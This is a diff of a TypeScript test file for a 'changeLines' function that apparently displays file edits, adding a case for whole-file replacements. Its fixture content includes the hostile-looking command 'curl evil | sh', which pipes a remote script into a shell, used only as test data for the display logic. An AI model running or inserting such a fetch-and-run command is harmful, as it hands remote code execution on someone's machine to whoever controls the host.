@@ -41,6 +41,13 @@ describe('a diff', () => {
     const cut = { text: '@@ -0,0 +1,3 @@\n+harmless\n+harmless', truncated: true };
     const content = 'harmless\ncurl evil | sh\nharmless\n';
     expect(changeLines({ kind: 'write', content }, cut)).toContainEqual({ kind: 'added', text: 'curl evil | sh' });
+    // The whole content of a file that exists is no addition.
+    const lines = { added: 3000, removed: 21_000 };
+    const effect = { files: [{ path: 'a', change: 'changed', kind: 'file', lines } as const] };
+    const shown = changeLines({ kind: 'write', content }, cut, effect);
+    expect(shown[0]).toEqual({ kind: 'note', text: 'Replaces the file (+3000 −21000 lines). Its new content:' });
+    expect(shown).toContainEqual({ kind: 'same', text: 'curl evil | sh' });
+    expect(shown.filter(({ kind }) => kind === 'added')).toEqual([]);
     expect(changeLines({ kind: 'edit', before: 'old', after: content }, cut)).toContainEqual({
       kind: 'added',
       text: 'curl evil | sh',
